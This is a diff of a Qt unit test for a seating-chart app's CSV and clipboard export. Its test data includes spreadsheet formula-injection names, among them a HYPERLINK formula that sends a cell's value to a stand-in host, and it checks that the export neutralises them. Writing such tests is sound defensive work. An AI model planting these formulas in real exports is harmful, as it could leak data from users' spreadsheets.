@@ -1,7 +1,9 @@
 // The chart as a CSV file and as clipboard rows, and tables pasted from elsewhere.
 #include "core/chartexport.h"
+#include "core/chartlayout.h"
 #include "core/pastedtable.h"
 #include "core/sharedstate.h"
+#include "support/fixtures.h"
 
 #include <QRandomGenerator>
 #include <QtTest>
@@ -11,8 +13,9 @@
 namespace
 {
 
-// A strict RFC 4180 reader: records end at CR LF, a quoted field may hold anything.
-QList<QStringList> readCsv(const QString &text)
+// A strict RFC 4180 reader: records end at `end` (CR LF in a CSV file), a quoted field may
+// hold anything.
+QList<QStringList> readTable(const QString &text, QChar separator = u',', QLatin1String end = QLatin1String("\r\n"))
 {
     QList<QStringList> records;
     QStringList record;
@@ -29,12 +32,12 @@ QList<QStringList> readCsv(const QString &text)
                 quoted = false;
         } else if (c == u'"' && field.isEmpty()) {
             quoted = true;
-        } else if (c == u',') {
+        } else if (c == separator) {
             record.append(std::exchange(field, {}));
-        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
+        } else if (QStringView(text).sliced(i).startsWith(end)) {
             record.append(std::exchange(field, {}));
             records.append(std::exchange(record, {}));
-            ++i;
+            i += end.size() - 1;
         } else {
             field += c;
         }
@@ -44,14 +47,6 @@ QList<QStringList> readCsv(const QString &text)
     return records;
 }
 
-QStringList seatsWith(const QMap<int, QString> &names)
-{
-    QStringList seats(SeatCount);
-    for (auto it = names.cbegin(); it != names.cend(); ++it)
-        seats[it.key() - 1] = it.value();
-    return seats;
-}
-
 } // namespace
 
 class TestTables : public QObject
@@ -59,7 +54,8 @@ class TestTables : public QObject
     Q_OBJECT
 
 private slots:
-    void csvBytes();
+    void exports_data();
+    void exports();
     void csvAndClipboardGiveNamesBack();
     void pasted_data();
     void pasted();
@@ -67,81 +63,138 @@ private slots:
     void pastedLimits();
 };
 
-void TestTables::csvBytes()
+// The two views' clipboard texts as "pupils' side|teacher's side".
+void TestTables::exports_data()
 {
+    QTest::addColumn<QString>("room"); // edits as roomFromEdits takes them
+    QTest::addColumn<SeatMap>("seats");
+    QTest::addColumn<QString>("csv"); // after the byte order mark
+    QTest::addColumn<QString>("clipboard");
     // A spreadsheet would evaluate a name starting with = + - @ TAB or CR.
-    const QStringList seats = seatsWith({{1, QStringLiteral("山田 太郎")},
-                                         {2, QStringLiteral(" ")}, // an empty seat
-                                         {3, QStringLiteral("=HYPERLINK(\"http://x/?\"&D7)")},
-                                         {4, QStringLiteral("+1")},
-                                         {5, QStringLiteral("佐藤,花子")},
-                                         {6, QStringLiteral("\"ｱｲ\"")},
-                                         {9, QStringLiteral("-山田")},
-                                         {10, QStringLiteral("@A1")},
-                                         {11, QStringLiteral("\t山田")},
-                                         {12, QStringLiteral("\r山田")},
-                                         {13, QStringLiteral("山田=1")},
-                                         {27, QStringLiteral("一\r\n二")},
-                                         {28, QStringLiteral(" 前後 ")}});
-    const QByteArray expected =
-        QByteArray("\xEF\xBB\xBF") + QStringLiteral("座席番号,列,列内の位置,氏名\r\n"
-                                                    "1,1,1,山田 太郎\r\n"
-                                                    "2,1,2,\r\n"
-                                                    "3,1,3,\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\r\n"
-                                                    "4,1,4,'+1\r\n"
-                                                    "5,2,1,\"佐藤,花子\"\r\n"
-                                                    "6,2,2,\"\"\"ｱｲ\"\"\"\r\n"
-                                                    "7,2,3,\r\n8,2,4,\r\n"
-                                                    "9,3,1,'-山田\r\n10,3,2,'@A1\r\n11,3,3,'\t山田\r\n"
-                                                    "12,3,4,\"'\r山田\"\r\n13,4,1,山田=1\r\n"
-                                                    "14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
-                                                    "17,5,1,\r\n18,5,2,\r\n19,5,3,\r\n20,5,4,\r\n"
-                                                    "21,6,1,\r\n22,6,2,\r\n23,6,3,\r\n24,6,4,\r\n"
-                                                    "25,7,1,\r\n26,7,2,\r\n"
-                                                    "27,7,3,\"一\r\n二\"\r\n"
-                                                    "28,7,4, 前後 \r\n")
-                                         .toUtf8();
-    QCOMPARE(chartCsv(seats), expected);
+    QTest::newRow("standard room")
+        << "grid 7 4"
+        << SeatMap{{1, "山田 太郎"},
+                   {2, " "}, // an empty seat
+                   {3, "=HYPERLINK(\"http://x/?\"&D7)"},
+                   {4, "+1"},
+                   {5, "佐藤,花子"},
+                   {6, "\"ｱｲ\""},
+                   {9, "-山田"},
+                   {10, "@A1"},
+                   {11, "\t山田"},
+                   {12, "\r山田"},
+                   {13, "山田=1"},
+                   {27, "一\r\n二"},
+                   {28, " 前後 "}}
+        << "座席番号,列,列内の位置,氏名\r\n"
+           "1,1,1,山田 太郎\r\n"
+           "2,1,2,\r\n"
+           "3,1,3,\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\r\n"
+           "4,1,4,'+1\r\n"
+           "5,2,1,\"佐藤,花子\"\r\n"
+           "6,2,2,\"\"\"ｱｲ\"\"\"\r\n"
+           "7,2,3,\r\n8,2,4,\r\n"
+           "9,3,1,'-山田\r\n10,3,2,'@A1\r\n11,3,3,'\t山田\r\n"
+           "12,3,4,\"'\r山田\"\r\n13,4,1,山田=1\r\n"
+           "14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
+           "17,5,1,\r\n18,5,2,\r\n19,5,3,\r\n20,5,4,\r\n"
+           "21,6,1,\r\n22,6,2,\r\n23,6,3,\r\n24,6,4,\r\n"
+           "25,7,1,\r\n26,7,2,\r\n"
+           "27,7,3,\"一\r\n二\"\r\n"
+           "28,7,4, 前後 \r\n"
+        << " 前後 \t\"一\r\n二\"\t\t\n\t\t\t\n\t\t\t\n\t\t\t山田=1\n\"'\r山田\"\t\"'\t山田\"\t'@A1\t'-山田\n"
+           "\t\t\"\"\"ｱｲ\"\"\"\t佐藤,花子\n'+1\t\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\t\t山田 太郎\n"
+           "|山田 太郎\t\t\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\t'+1\n佐藤,花子\t\"\"\"ｱｲ\"\"\"\t\t\n"
+           "'-山田\t'@A1\t\"'\t山田\"\t\"'\r山田\"\n山田=1\t\t\t\n\t\t\t\n\t\t\t\n\t\t\"一\r\n二\"\t 前後 \n";
+    // Two rows of four, the back left cell without a desk, an aisle after the second column
+    // and the right half one 班: the place in the row counts the cell without a desk, the
+    // clipboard keeps it and the aisle as empty fields.
+    QTest::newRow("aisle, no desk, 班")
+        << "grid 2 4; off 1 0; aisle 1; group 0 2 1 3"
+        << SeatMap{{1, "山田"}, {2, " "}, {3, "=1"}, {4, "a\tb"}, {5, "佐藤"}, {7, "鈴木"}}
+        << "座席番号,列,列内の位置,氏名,班\r\n1,1,1,山田,1\r\n2,1,2,,1\r\n3,1,3,'=1,\r\n4,1,4,a\tb,\r\n"
+           "5,2,1,佐藤,1\r\n6,2,2,,1\r\n7,2,3,鈴木,\r\n"
+        << "\t鈴木\t\t\t佐藤\n\"a\tb\"\t'=1\t\t\t山田\n|山田\t\t\t'=1\t\"a\tb\"\n佐藤\t\t\t鈴木\t\n";
 }
 
-// Generated charts written as CSV and as clipboard rows read back name for name: the CSV
-// with a strict reader, the clipboard rows with the reader the roster editor pastes with.
+void TestTables::exports()
+{
+    QFETCH(QString, room);
+    QFETCH(SeatMap, seats);
+    QFETCH(QString, csv);
+    QFETCH(QString, clipboard);
+    const Room r = roomFromEdits(room);
+    QStringList texts(r.deskCount());
+    for (auto it = seats.cbegin(); it != seats.cend(); ++it)
+        texts[it.key() - 1] = it.value();
+    QCOMPARE(chartCsv(r, texts), QByteArray("\xEF\xBB\xBF") + csv.toUtf8());
+    QCOMPARE(chartClipboardText(r, texts, false) + u'|' + chartClipboardText(r, texts, true), clipboard);
+}
+
+// Generated charts of generated rooms written as CSV and as clipboard rows read back name for
+// name with a strict reader. The CSV's row and place find the desk in the room; the
+// clipboard's rows and fields lie as the chart on the screen shows the boxes.
 void TestTables::csvAndClipboardGiveNamesBack()
 {
     const QStringList pieces{"山", "田", "ｱ", "か", " ", "　", ",", "\"", "\t", "\r\n", "\n", "a", "髙", "=", "-"};
     QRandomGenerator random(20261206);
-    for (int round = 0; round < 200; ++round) {
-        QStringList seats;
-        for (int i = 0; i < SeatCount; ++i) {
+    for (int round = 0; round < 300; ++round) {
+        const Room room = round % 3 == 0 ? Room::standard() : randomRoom(random);
+        QStringList seats, shown;
+        for (int i = 0; i < room.deskCount(); ++i) {
             QString name;
             for (int k = random.bounded(5); k > 0; --k)
                 name += pieces.at(random.bounded(pieces.size()));
             seats.append(name);
-        }
-        QStringList shown;
-        for (const QString &name : seats) {
             const bool formula = QStringLiteral("=-\t\r").contains(name.left(1));
             shown.append(name.trimmed().isEmpty() ? QString() : formula ? u'\'' + name : name);
         }
 
-        const QByteArray bytes = chartCsv(seats);
+        const QByteArray bytes = chartCsv(room, seats);
         QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
-        const QList<QStringList> records = readCsv(QString::fromUtf8(bytes.mid(3)));
-        QCOMPARE(records.size(), SeatCount + 1);
-        QCOMPARE(records.first(), (QStringList{"座席番号", "列", "列内の位置", "氏名"}));
-        for (int seat = 1; seat <= SeatCount; ++seat) {
-            QCOMPARE(records.at(seat).size(), 4);
-            QCOMPARE(records.at(seat).at(0), QString::number(seat));
-            QCOMPARE(records.at(seat).at(3), shown.at(seat - 1));
+        const QList<QStringList> records = readTable(QString::fromUtf8(bytes.mid(3)));
+        const bool groups = !room.groupNumbers().isEmpty();
+        QCOMPARE(records.size(), room.deskCount() + 1);
+        QCOMPARE(records.first(), QStringList({"座席番号", "列", "列内の位置", "氏名", "班"}).mid(0, groups ? 5 : 4));
+        for (int desk = 1; desk <= room.deskCount(); ++desk) {
+            const QStringList &record = records.at(desk);
+            QCOMPARE(record.size(), groups ? 5 : 4);
+            QCOMPARE(record.at(0), QString::number(desk));
+            QCOMPARE(room.deskNumber({record.at(1).toInt() - 1, room.columns() - record.at(2).toInt()}), desk);
+            QCOMPARE(record.at(3), shown.at(desk - 1));
+            if (groups)
+                QCOMPARE(record.at(4), room.groupOf(desk) ? QString::number(room.groupOf(desk)) : QString());
         }
 
-        // On screen the back row is at the top and seat numbers grow from right to left.
-        const QList<QStringList> rows = splitTable(chartClipboardText(seats), u'\t');
-        QCOMPARE(rows.size(), 7);
-        for (int r = 0; r < 7; ++r) {
-            const int front = (6 - r) * 4; // index of the row's seat drawn rightmost
-            QCOMPARE(rows.at(r),
-                     (QStringList{shown.at(front + 3), shown.at(front + 2), shown.at(front + 1), shown.at(front)}));
+        for (const bool teacherView : {false, true}) {
+            const QList<QStringList> rows =
+                readTable(chartClipboardText(room, seats, teacherView), u'\t', QLatin1String("\n"));
+            QStringList numbers;
+            for (int desk = 1; desk <= room.deskCount(); ++desk)
+                numbers.append(QStringLiteral("#%1").arg(desk));
+            const QList<QStringList> places =
+                readTable(chartClipboardText(room, numbers, teacherView), u'\t', QLatin1String("\n"));
+            QCOMPARE(rows.size(), room.rows());
+            QCOMPARE(places.size(), room.rows());
+            const ChartLayout layout(room, teacherView);
+            int previousTop = -1;
+            for (int line = 0; line < rows.size(); ++line) {
+                QCOMPARE(rows.at(line).size(), places.at(line).size());
+                int top = -1, right = -1;
+                for (int field = 0; field < rows.at(line).size(); ++field) {
+                    const int desk = places.at(line).at(field).mid(1).toInt();
+                    QCOMPARE(rows.at(line).at(field), desk ? shown.at(desk - 1) : QString());
+                    if (desk == 0)
+                        continue;
+                    // Lines top to bottom, fields left to right, as the boxes are drawn.
+                    const QRect box = layout.box(desk);
+                    QVERIFY(top < 0 ? box.top() > previousTop : box.top() == top);
+                    QVERIFY(box.left() > right);
+                    top = box.top();
+                    right = box.right();
+                }
+                previousTop = std::max(previousTop, top);
+            }
         }
     }
 }
